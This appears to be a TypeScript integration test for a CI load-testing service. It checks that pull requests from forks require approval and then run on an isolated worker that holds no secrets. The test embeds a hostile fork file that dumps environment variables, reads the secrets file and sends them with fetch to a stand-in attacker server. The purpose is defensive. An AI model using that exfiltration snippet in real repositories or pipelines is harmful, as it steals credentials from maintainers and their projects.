import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { createTempFolder, hookCall, startFakeForge, startTargetServer, waitUntil } from '@marteau/testkit';
import { openHouse } from './house/house.ts';
import { scriptOf } from './house/projects.ts';

const SECRET = 'a-secret-of-the-project-8261';

test('the head of a fork is asked about, approved, and run without secrets on a contained node for strangers alone', async () => {
  await using folder = await createTempFolder();
  await using target = await startTargetServer();
  await using evil = await startTargetServer();
  await using forge = await startFakeForge('gitea');
  const secrets = join(folder.path, 'secrets.yml');
  await writeFile(secrets, '', { mode: 0o600 });
  await using house = await openHouse({ workers: 0, env: { MARTEAU_SECRETS: secrets } });
  const script = scriptOf(
    `
      console.log('it sees ' + (await look()));
      assert.equal((await fetch('/hello')).status, 200);`,
    "import { look } from './look.ts';",
  );
  const repo = await house.git.createRepo('team/shop', {
    '.marteau.yml': `name: Shop\nscript: a.test.ts\ntarget: ${target.url}\nload: [{users: 1, for: 3s}]\nwhen: {pull: {}}\n`,
    'a.test.ts': script,
    'look.ts': "export const look = async () => 'nothing';",
  });
  const base = await repo.git('rev-parse', 'HEAD');
  await writeFile(
    secrets,
    JSON.stringify({
      git: { [new URL(forge.url).host]: 'forge-token' },
      projects: { [repo.url]: { TOKEN: SECRET } },
    }),
  );
  const { id, hook } = await house.api<{ id: string; hook: { url: string; secret: string } }>(
    'POST',
    '/projects',
    { repo: repo.url, forge: { kind: 'gitea', api: forge.url } },
  );
  // It prepares runs, and knows secrets; load of ours could go there.
  await house.startWorker('ours', { MARTEAU_ROLES: 'desk,load' });

  /** The fork's code reads what it can, and its own file would send all of it elsewhere. */
  const steals = `
import { readFileSync } from 'node:fs';
let seen = null;
export const look = () => (seen ??= all());
async function all() {
  const found = [JSON.stringify(process.env)];
  try { found.push(readFileSync(${JSON.stringify(secrets)}, 'utf8')); } catch (error) { found.push(error.code); }
  await fetch('${evil.url}/?' + encodeURIComponent(found.join())).catch((error) => found.push('not reached'));
  return found.join(' ').replace(/[^\\x20-\\x7e]/g, ' ').slice(0, 20000);
}`;
  await repo.git('checkout', '-q', '--detach');
  const comes = async (n: number) => {
    const head = await repo.commit({
      'look.ts': `${steals}\n// ${n}`,
      '.marteau.yml': `name: Mine\nscript: a.test.ts\ntarget: ${evil.url}\nload: [{users: 1, for: 1s}]\nwhen: {pull: {forks: run}}\n`,
    });
    await repo.git('update-ref', 'refs/pull/5/head', head);
    forge.pulls.set(5, { head, base, open: true });
    const { headers, body } = hookCall('gitea', {
      repo: repo.url,
      secret: hook.secret,
      pull: { number: 5, head, base, headRef: 'theirs', fork: true },
    });
    assert.equal((await fetch(hook.url, { method: 'POST', headers, body })).status, 202);
    const asked = await waitUntil('somebody to be asked', async () => {
      const { deliveries } = await house.api<{
        deliveries: { id: string; state: string; delivery: string }[];
      }>('GET', `/projects/${id}/deliveries`);
      return deliveries.find(({ state }) => state === 'asked');
    });
    const status = () => forge.statuses.get(`${head} marteau/Shop`);
    await waitUntil('the status', () => status()?.state === 'pending');
    assert.match(status()!.description, /somebody has to approve/);
    await house.api('POST', `/projects/${id}/deliveries/${asked.id}/approve`);
    const run = await waitUntil('the run', async () => {
      const { runs } = await house.api<{ runs: { id: string; ref: string }[] }>('GET', '/runs');
      return runs.find(({ ref }) => ref === head);
    });
    return { ended: await house.ends(run.id, 120_000), status };
  };

  const without = await comes(1);
  assert.deepEqual([without.ended.state, without.ended.reasonCode], ['error', 'no-fork-node']);
  await waitUntil('its end to be told', () => without.status()?.state === 'error');
  assert.match(without.status()!.description, /trust=forks/);

  await house.startWorker('strangers', {
    MARTEAU_ROLES: 'load',
    MARTEAU_LABELS: 'trust=forks',
    MARTEAU_CONTAIN: 'required',
    MARTEAU_SECRETS: '',
  });
  const { ended, status } = await comes(2);
  assert.equal(ended.verdict, 'pass', ended.reason ?? '');
  const results = JSON.parse(await house.file(ended.id, 'results.json')) as { nodes: { node: string }[] };
  assert.deepEqual(
    results.nodes.map(({ node }) => node),
    ['strangers'],
  );
  assert.deepEqual([ended.name, ended.target], ['Shop', target.url], 'the file of the base');
  const said = await house.file(ended.id, 'console.log');
  assert.match(said, /it sees \{/);
  assert.doesNotMatch(said, new RegExp(SECRET));
  assert.match(said, /\} (EACCES|ENOENT)/);
  assert.ok(target.seen.requests > 0);
  assert.ok(![...evil.seen.byPath.keys()].some((path) => path.includes('secret')));
  await waitUntil('its end to be told', () => status()?.state === 'success');
  assert.match(status()!.description, /not compared with its base/);
  await house.assertNothingLeft();
});
